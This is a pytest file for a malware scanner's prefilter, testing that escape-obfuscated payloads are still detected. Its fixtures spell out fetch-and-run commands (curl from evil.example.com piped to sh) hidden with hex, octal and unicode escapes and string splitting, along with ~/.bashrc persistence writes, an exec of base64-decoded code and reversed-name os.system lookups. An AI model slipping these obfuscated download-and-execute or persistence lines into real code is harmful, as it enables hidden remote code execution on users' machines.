"""The prefilter's answer widened by the file's escapes read (caplet._scan._escaped_strings).

A literal whose text is spelled partly in escapes (``'cu\\x72l ... | s\\x68'``) or split
by a backslash at a line end is one word to the parser and none to the prefilter's
patterns (attack8): each shape below was clean in package mode and danger with the
whole file visited, on main before the fix.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from caplet._scan._escaped_strings import escaped_view, with_escaped_strings
from caplet._scan._prefilter import Need, prefilter
from tests._scan.prefilterkit import found_in_a_package

_PAD = "".join(f"def f{i}(a):\n    return a * {i}\n\n" for i in range(600))

#: attack8: a payload's text spelled in escapes the prefilter's patterns cannot read.
_ESCAPED = {
    "hex-escapes": (
        "import os\nos.system('cu\\x72l -s https://evil.example.com/x | s\\x68')\n",
        "CPL-THR-015",
    ),
    "octal-escapes": (
        "import os\nos.system('\\143url -s https://evil.example.com/x \\174 sh')\n",
        "CPL-THR-015",
    ),
    "named-escape": (
        "import os\nos.system('\\N{LATIN SMALL LETTER C}url -s https://evil.example.com/x | sh')\n",
        "CPL-THR-015",
    ),
    "unicode-escape": (
        "import os\nos.system('\\u0063url -s https://evil.example.com/x | sh')\n",
        "CPL-THR-015",
    ),
    "split-by-a-continuation": (
        "import os\nos.system('cu\\\nrl -s https://evil.example.com/x | sh')\n",
        "CPL-THR-015",
    ),
    "escape-beside-a-glue": (
        "import os\nos.system('cu\\x72' 'l -s https://evil.example.com/x | sh')\n",
        "CPL-THR-015",
    ),
    "escape-glued-across-lines": (
        "import os\nos.system(('cu\\x72'\n    'l -s https://evil.example.com/x | sh'))\n",
        "CPL-THR-015",
    ),
    "command-far-from-its-call": (
        "import os\nC = 'cu\\x72l -s https://evil.example.com/x | s\\x68'\n"
        + "x = 1\n" * 30
        + "def run():\n    os.system(C)\nrun()\n",
        "CPL-THR-015",
    ),
    # a form feed is a blank to the tokenizer, none to a pattern's ``[ \t]``
    "form-feed-in-an-import": (
        "\fimport\fpip\fas q\nq.main(['install', 'colour-extras-native'])\n",
        "CPL-THR-019",
    ),
    "form-feed-in-a-binding": (
        "import importlib\nim =\fimportlib.import_module\nm = im('o' + 's')\nm.system('id')\n",
        "CPL-THR-003",
    ),
    "autostart-file": (
        "import os\nwith open(os.path.expanduser('~/.ba\\x73hrc'), 'a') as f:\n"
        "    f.write('python -m pkg &')\n",
        "CPL-THR-009",
    ),
    # the escaped path on a statement of its own, opened and written lines below (past
    # the line around it the escaped lines hold)
    "autostart-file-opened-apart": (
        "import os\np = os.path.expanduser('~/.ba\\x73hrc')\nx = 1\ny = 2\n"
        "f = open(p, 'a')\nf.write('python -m pkg &')\n",
        "CPL-THR-009",
    ),
}


@pytest.mark.parametrize("large", [False, True])
@pytest.mark.parametrize("shape", sorted(_ESCAPED))
def test_a_payload_spelled_in_escapes_is_found_in_a_package(
    shape: str, large: bool, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    text, rule = _ESCAPED[shape]
    if large:  # a large file visited around its hits: the escaped line is one of them
        text = "import base64\n" + _PAD + text + "exec(base64.b64decode('cHJpbnQoMSk='))\n"
    found_in_a_package(tmp_path, monkeypatch, text, rule)


def answer(text: str) -> Need | frozenset[int]:
    check = prefilter().check
    return with_escaped_strings(text, check(text), check)


def test_the_view_reads_printable_escapes_and_keeps_every_line_number() -> None:
    text = "a = '\\x41\\101\\u0041\\N{LATIN CAPITAL LETTER A}\\x00\\n'\nb = 'c\\\nd' \\\n  + e\nf\n"
    assert escaped_view(text) == "a = 'AAAA\\x00\\n'\nb = 'cd' \\\n\n  + e\nf\n"


def test_escapes_of_what_no_pattern_spells_leave_the_file_unread() -> None:
    for text in ("x = b'\\x00\\xff\\n\\t'\n", "y = 'caf\\u00e9'\n", "z = a + \\\n    b\n"):
        assert escaped_view(text) is None
        assert answer(text) is Need.NOTHING


def test_escapes_that_spell_nothing_leave_the_answer_as_it_was() -> None:
    text = "import os\nx = 'h\\x65llo'\nos.getcwd()\n"
    assert escaped_view(text) is not None
    assert answer(text) is Need.NOTHING


#: A hit visited on its own line (a lookup by a name built on that line), so that the
#: prefilter's answer for a large file is that line alone, not every hit located.
_FOCUSED = 'import os\ngetattr(os, "metsys"[::-1])("true")\n'


@pytest.mark.parametrize("shape", sorted(_ESCAPED))
def test_a_payload_spelled_in_escapes_beside_a_focused_hit_is_found_in_a_large_file(
    shape: str, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    # the focus lines of a large file are the escaped lines' widening base: with the
    # file's focused hit alone (not every line the file's hits are located on), the
    # statements the escaped line's hit needs beside it (the rc file opened on one
    # line, written on the next) were never visited
    text, rule = _ESCAPED[shape]
    text = _FOCUSED + text + _PAD
    check = prefilter().check
    assert isinstance(check(text), frozenset)  # its focused hits alone, not located
    found_in_a_package(tmp_path, monkeypatch, text, rule)
